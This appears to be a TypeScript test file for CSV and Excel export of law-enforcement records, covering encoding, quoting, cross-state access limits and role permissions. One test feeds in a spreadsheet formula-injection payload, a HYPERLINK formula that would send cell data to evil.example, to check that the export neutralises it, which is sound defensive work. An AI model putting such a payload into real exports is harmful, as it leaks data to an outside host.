/** Exports as tables an officer opens in a spreadsheet: CSV and Excel, within what the caller may export. */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RECORD_COLUMNS, type RecordView } from '@svod/core';
import { DIALECTS, createTestApp, type TestApp } from './test/helpers.ts';
import { stolenVehicle, wantedPerson } from './test/fixtures/records.ts';

describe.each(DIALECTS)('record export as tables on %s', (dialect) => {
  let t: TestApp;
  let person: RecordView;
  beforeAll(async () => {
    t = await createTestApp(dialect);
    const ru = await t.as('RU-MVD', 'operator');
    const post = async (payload: object) =>
      (await t.app.inject({ method: 'POST', url: '/api/v1/records', headers: ru, payload })).json() as RecordView;
    person = await post(wantedPerson({ legalBasis: 'Постановление от 12.03.2025, "особо опасен", ст. 162' }));
    await post(stolenVehicle());
    await post(stolenVehicle({ distribution: { kind: 'participants', participants: ['BY-MVD'] } }));
  });
  afterAll(async () => t?.close());

  const exported = async (query: string, role: 'supervisor' | 'analyst' | 'operator' = 'analyst', participant = 'RU-MVD') =>
    t.app.inject({ method: 'GET', url: `/api/v1/records/export?${query}`, headers: await t.as(participant, role) });

  it('writes CSV with a header, one row per record, Cyrillic intact and quotes where a value needs them', async () => {
    const response = await exported('format=csv&owner=RU-MVD');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="svod-records-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = response.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\n');
    expect(lines[0]).toBe(RECORD_COLUMNS.join(','));
    expect(lines).toHaveLength(4);
    const row = lines.find((l) => l.startsWith(person.id))!;
    expect(row).toContain('Рахмонов');
    expect(row).toContain('"Постановление от 12.03.2025, ""особо опасен"", ст. 162"');
  });

  it('writes an Excel workbook that opens with the same rows', async () => {
    const response = await exported('format=xlsx&category=vehicle', 'supervisor');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('records')!;
    expect(sheet.getRow(1).getCell(1).value).toBe('id');
    expect(sheet.rowCount).toBe(3);
    expect(String(sheet.getRow(2).getCell(RECORD_COLUMNS.indexOf('plate') + 1).value)).toContain('А123ВС77');
  });

  it("leaves out another state's records not shared with the caller, and refuses roles that may not export", async () => {
    const kz = await exported('format=csv', 'analyst', 'KZ-MVD');
    expect(
      kz.body
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\n'),
    ).toHaveLength(3);
    const operator = await exported('format=csv', 'operator');
    expect(operator.statusCode).toBe(403);
    expect(operator.headers['content-type']).toContain('application/problem+json');
  });

  it('writes a cell that a spreadsheet would run as a formula as plain text', async () => {
    const kz = await t.as('KZ-MVD', 'operator');
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/v1/records',
      headers: kz,
      payload: stolenVehicle({ legalBasis: '=HYPERLINK("http://evil.example/?"&A1,"ok")', remarks: '@SUM(1)' }),
    });
    expect(created.statusCode, created.body).toBe(201);
    const response = await exported('format=csv&owner=KZ-MVD');
    expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`);
    expect(response.body).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
  });

  it("exports a ranked search's records in the order the search shows them, to a role that may export", async () => {
    const search = async (role: 'analyst' | 'operator') =>
      t.app.inject({
        method: 'POST',
        url: '/api/v1/records/search/export?format=csv',
        headers: await t.as('RU-MVD', role),
        payload: { person: { surname: 'Rakhmonov', given: 'Farrukh' } },
      });
    const ok = await search('analyst');
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.headers['content-disposition']).toMatch(/svod-search-\d{4}-\d{2}-\d{2}\.csv/);
    const lines = ok.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\n');
    expect(lines[0]).toBe(RECORD_COLUMNS.join(','));
    expect(lines[1]).toContain(person.id);
    expect((await search('operator')).statusCode).toBe(403);
  });
});
